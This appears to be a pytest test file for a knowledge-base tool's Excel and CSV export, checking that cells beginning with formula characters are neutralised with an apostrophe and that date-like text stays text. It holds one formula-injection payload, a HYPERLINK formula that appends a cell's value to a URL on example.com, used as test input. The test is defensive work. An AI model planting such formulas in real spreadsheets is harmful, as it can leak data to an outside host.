import csv
import io
import re
from typing import Any

import pytest
from openpyxl import load_workbook

from knowledge.domain.sheets.csv_writing import to_csv
from knowledge.domain.sheets.spreadsheet import guarded, neutral
from knowledge.domain.sheets.workbook_writing import to_workbook
from tests.knowledge.samples import an_entry

EVIL = '=HYPERLINK("http://example.com/?"&A1)'


def evil_entry() -> Any:
    lists = {name: [EVIL] for name in ("aliases", "questions", "boundary", "boundary_words", "not_questions")}
    return an_entry(title=EVIL, answer=EVIL, boundary_note=EVIL, source=EVIL, **lists)


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    book = load_workbook(io.BytesIO(to_workbook([evil_entry()], {"cost.condolence": EVIL})))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells if "HYPERLINK" in cell.value] == [f"'{EVIL}"] * 9


@pytest.mark.parametrize("encoding", ["utf-8", "cp932"])
def test_no_cell_of_a_csv_file_begins_as_a_formula(encoding: str) -> None:
    text = to_csv([evil_entry()], {}, encoding).decode("utf-8-sig" if encoding == "utf-8" else encoding)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert sum("HYPERLINK" in cell for cell in cells) == 9
    assert [cell for cell in cells if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell)] == []


@pytest.mark.parametrize("text", ["0123", "1-2", "3/4", "2026-04-01", "1E5", "１２３", "TRUE", "#N/A", "令和8年4月1日"])
def test_what_excel_would_take_for_a_number_or_a_date_is_kept_a_text(text: str) -> None:
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "山田", "3人で使う", "ISO27001", "株式会社=", "'quoted", "ー", "100万円以上の損害"]
)
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_an_apostrophe_of_ones_own_before_a_formula_is_told_from_ours(start: str) -> None:
    assert neutral(f"{start}cmd") == f"'{start}cmd"
    assert neutral(f"'{start}cmd") == f"''{start}cmd"


def test_a_date_is_a_date_in_excel() -> None:
    book = load_workbook(io.BytesIO(to_workbook([an_entry(valid_from="2026-04-01")], {})))
    cell = next(cell for cell in book["項目"][2] if cell.is_date)
    assert (cell.number_format, f"{cell.value:%Y-%m-%d}") == ("yyyy-mm-dd", "2026-04-01")
